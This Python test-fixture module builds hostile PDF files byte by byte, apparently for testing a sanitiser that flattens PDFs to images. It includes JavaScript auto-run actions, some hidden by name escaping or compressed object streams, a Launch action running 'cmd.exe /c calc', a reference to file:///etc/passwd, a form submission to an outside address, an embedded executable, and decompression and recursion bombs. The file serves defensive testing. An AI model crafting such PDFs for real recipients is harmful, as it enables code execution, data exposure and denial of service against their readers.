"""Hostile PDF files, written here object by object: what acts, what never ends, what is larger than it looks."""

import struct
import zlib
from collections.abc import Mapping

from .pictures import CANARY, HARMLESS, MEGABYTE, OTHERWISE, Case, squeezed

Objects = Mapping[int, bytes]
CATALOG, PAGES, PAGE = 1, 2, 3
_FLATE = b"/Filter/FlateDecode"


def pdf(objects: Objects = {}, *, catalog: bytes = b"", page: bytes = b"", trailer: bytes = b"") -> bytes:  # noqa: B006
    """A file of one empty page; each argument adds to an object, or takes its place."""
    parts = {
        CATALOG: b"<</Type/Catalog/Pages 2 0 R " + catalog + b">>",
        PAGES: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page + b">>",
        **objects,
    }
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in parts.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    begins, size = len(out), max(parts) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(
        b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(1, size)
    )
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, begins)
    return bytes(out)


def stream(data: bytes, said: bytes = b"") -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(data), said, data)


def drawn(content: bytes, objects: Objects = {}, *, resources: bytes = b"", said: bytes = b"") -> bytes:  # noqa: B006
    page = b"/Contents 4 0 R/Resources<<" + resources + b">>"
    return pdf({4: stream(content, said), **objects}, page=page)


def with_box(box: bytes, more: bytes = b"") -> bytes:
    return pdf({PAGE: b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]" + more + b">>"})


def with_pages(pages: int, *, said: int | None = None) -> bytes:
    kids = b"3 0 R " * pages
    return pdf({PAGES: b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, pages if said is None else said)})


def form(content: bytes, uses: int | None = None) -> bytes:
    resources = b"/Resources<</XObject<</X %d 0 R>>>>" % uses if uses else b""
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]" + resources)


def folded_forms(depth: int, each: int) -> bytes:
    """Each form draws the next so many times: `each` to the power of `depth` at the end."""
    forms = {5 + n: form(b"/X Do " * each, 6 + n) for n in range(depth)}
    return drawn(b"/X Do", {**forms, 5 + depth: form(b"0 0 99 99 re f")}, resources=b"/XObject<</X 5 0 R>>")


def image(width: int, height: int, data: bytes, said: bytes) -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceGray" % (width, height)
    return drawn(b"200 0 0 200 0 0 cm /X Do", {5: stream(data, head + said)}, resources=b"/XObject<</X 5 0 R>>")


def action(body: bytes) -> bytes:
    return pdf({5: b"<</Type/Action" + body + b">>"}, catalog=b"/OpenAction 5 0 R")


def packed(hidden: bytes) -> bytes:
    """Object 4 is `hidden`, in a packed stream of objects; the file's table is packed too, so that no word shows."""
    bodies = {
        CATALOG: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        PAGES: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        5: stream(zlib.compress(b"4 0 " + hidden), b"/Type/ObjStm/N 1/First 4" + _FLATE),
    }
    out, rows = bytearray(b"%PDF-1.7\n"), {0: (0, 0, 65_535), 4: (2, 5, 0)}
    for number, body in bodies.items():
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    begins = rows[6] = (1, len(out), 0)
    table = zlib.compress(b"".join(struct.pack(">BIH", *rows[number]) for number in sorted(rows)))
    out += b"6 0 obj\n%b\nendobj\n" % stream(table, b"/Type/XRef/Size 7/W[1 4 2]/Root 1 0 R" + _FLATE)
    out += b"startxref\n%d\n%%%%EOF\n" % begins[1]
    return bytes(out)


def annotated(body: bytes, objects: Objects = {}) -> bytes:  # noqa: B006
    return pdf({5: b"<</Type/Annot/Rect[0 0 99 99]" + body + b">>", **objects}, page=b"/Annots[5 0 R]")


def folded(data: bytes, times: int) -> tuple[bytes, bytes]:
    """Packed so many times, with the words that say so."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data, b"/Filter[" + b"/FlateDecode" * times + b"]"


_JS = b"/S/JavaScript/JS(app.alert\\(1\\)%" + CANARY.replace(b"(", b"\\(").replace(b")", b"\\)") + b")"
_THICK, _TIMES = folded(bytes(10 * MEGABYTE), 3)
_LOCKED = b"/Encrypt<</Filter/Standard/V 1/R 2/P -1/O<%b>/U<%b>>>/ID[<00><00>]" % (b"41" * 32, b"42" * 32)

ACTIVE: dict[str, bytes] = {
    "pdf that runs a script": action(_JS),
    "pdf with a script under its names": pdf(
        {5: b"<</Names[(a)6 0 R]>>", 6: b"<<" + _JS + b">>"}, catalog=b"/Names<</JavaScript 5 0 R>>"
    ),
    "pdf with a script written in another way": action(b"/S/J#61vaScript/#4aS(app.alert\\(1\\))"),
    "pdf with a script in packed objects": packed(b"<</Type/Action" + _JS + b">>"),
    "pdf that starts a program": action(b"/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>"),
    "pdf that opens another": action(b"/S/GoToR/F(file:///etc/passwd)/D[0/Fit]"),
    "pdf that sends itself away": annotated(
        b"/Subtype/Link/A<</S/SubmitForm/F<</FS/URL/F(http://192.0.2.1/)>>>>",
    ),
    "pdf with a file inside": pdf(
        {
            5: b"<</Names[(a.exe)6 0 R]>>",
            6: b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>",
            7: stream(CANARY, b"/Type/EmbeddedFile"),
        },
        catalog=b"/Names<</EmbeddedFiles 5 0 R>>",
    ),
    "pdf with a form of the old kind": pdf({5: stream(b"<xdp:xdp/>")}, catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>"),
    "pdf with a film": annotated(b"/Subtype/RichMedia/RichMediaContent<<>>"),
    "pdf whose field runs a script": pdf(
        {5: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K<<" + _JS + b">>>>>>"},
        catalog=b"/AcroForm<</Fields[5 0 R]>>",
        page=b"/Annots[5 0 R]",
    ),
}
"""Each becomes pictures; its original is not kept."""

PASSIVE: dict[str, bytes] = {
    "pdf that opens at its page": pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
    "pdf with an address to click": annotated(b"/Subtype/Link/A<</S/URI/URI(https://www.city.kodaira.tokyo.jp/)>>"),
    "pdf that writes of scripts": drawn(b"BT /F 9 Tf (/JavaScript /JS /Launch) Tj ET % /JS (x)"),
    "pdf and html": pdf() + b"\n<html>" + CANARY,
}
"""Each becomes pictures, and its original is kept beside them, to be saved."""

BOMBS: dict[str, Case] = {
    "pdf of 10,000 pages": (lambda: with_pages(10_000), "too_many_pages"),
    "pdf of 21 pages that says one": (lambda: with_pages(21, said=1), OTHERWISE),
    "pdf of one page that says 2,147,483,647": (lambda: with_pages(1, said=2**31 - 1), OTHERWISE),
    "pdf of -1 pages": (lambda: with_pages(1, said=-1), OTHERWISE),
    "pdf without pages": (lambda: with_pages(0), "broken"),
    "pdf whose pages are inside themselves": (
        lambda: pdf({PAGES: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"}),
        OTHERWISE,
    ),
    "pdf of a huge page": (lambda: with_box(b"0 0 99999999 99999999"), OTHERWISE),
    "pdf of a huge unit": (lambda: with_box(b"0 0 14400 14400", b"/UserUnit 75000"), OTHERWISE),
    "pdf of a tiny page": (lambda: with_box(b"0 0 0.0001 0.0001"), OTHERWISE),
    "pdf of a page of no size": (lambda: with_box(b"0 0 0 0"), OTHERWISE),
    "pdf of a page that is a line": (lambda: with_box(b"0 0 14400 0.01"), OTHERWISE),
    "pdf of a page inside out": (lambda: with_box(b"200 200 -200 -200"), HARMLESS),
    "pdf whose form draws itself": (
        lambda: drawn(b"/X Do", {5: form(b"/X Do", 5)}, resources=b"/XObject<</X 5 0 R>>"),
        HARMLESS,
    ),
    "pdf of a thousand million forms": (lambda: folded_forms(9, 10), "too_complex"),
    "pdf of 500 MB of drawing": (lambda: drawn(squeezed(500, b"0 0 9 9 re f\n"), said=_FLATE), OTHERWISE),
    "pdf packed three times": (lambda: drawn(_THICK, said=_TIMES), HARMLESS),
    "pdf packed twenty times": (lambda: drawn(*folded(b"0 0 9 9 re f", 20)[:1], said=folded(b"", 20)[1]), OTHERWISE),
    "pdf with a picture of 10,000,000,000 dots": (lambda: image(100_000, 100_000, squeezed(1), _FLATE), OTHERWISE),
    "pdf with a broken JPEG 2000": (
        lambda: image(9, 9, b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(99), b"/Filter/JPXDecode"),
        HARMLESS,
    ),
    "pdf with a broken JBIG2": (lambda: image(9, 9, b"\x97JB2" * 99, b"/Filter/JBIG2Decode"), HARMLESS),
    "pdf with a broken font": (
        lambda: drawn(
            b"BT /F 9 Tf (abc) Tj ET",
            {
                5: b"<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 6 0 R>>",
                6: b"<</Type/FontDescriptor/FontFile2 7 0 R>>",
                7: stream(b"\0\1\0\0\xff\xff" + bytes(4_000)),
            },
            resources=b"/Font<</F 5 0 R>>",
        ),
        HARMLESS,
    ),
    "pdf of tiny tiles": (
        lambda: drawn(
            b"/Pattern cs /P scn 0 0 200 200 re f",
            {
                5: stream(
                    b"0 0 1 1 re f",
                    b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.00001"
                    b"/YStep 0.00001/Resources<<>>",
                )
            },
            resources=b"/Pattern<</P 5 0 R>>",
        ),
        OTHERWISE,
    ),
    "pdf whose table names itself": (lambda: pdf(trailer=b"/Prev 9"), OTHERWISE),
    "pdf locked": (lambda: pdf(trailer=_LOCKED), "encrypted"),
    "pdf without an end": (lambda: pdf()[:-40], OTHERWISE),
    "pdf torn off": (lambda: pdf()[:70], "broken"),
    "pdf of one line": (lambda: b"%PDF-1.7\n" + CANARY, "broken"),
    "pdf behind html": (lambda: b"<html>" + CANARY + pdf(), "unknown"),
}
PDFS: dict[str, Case] = {
    **{name: ((lambda data=data: data), HARMLESS) for name, data in {**ACTIVE, **PASSIVE}.items()},  # type: ignore[misc]
    **BOMBS,
}
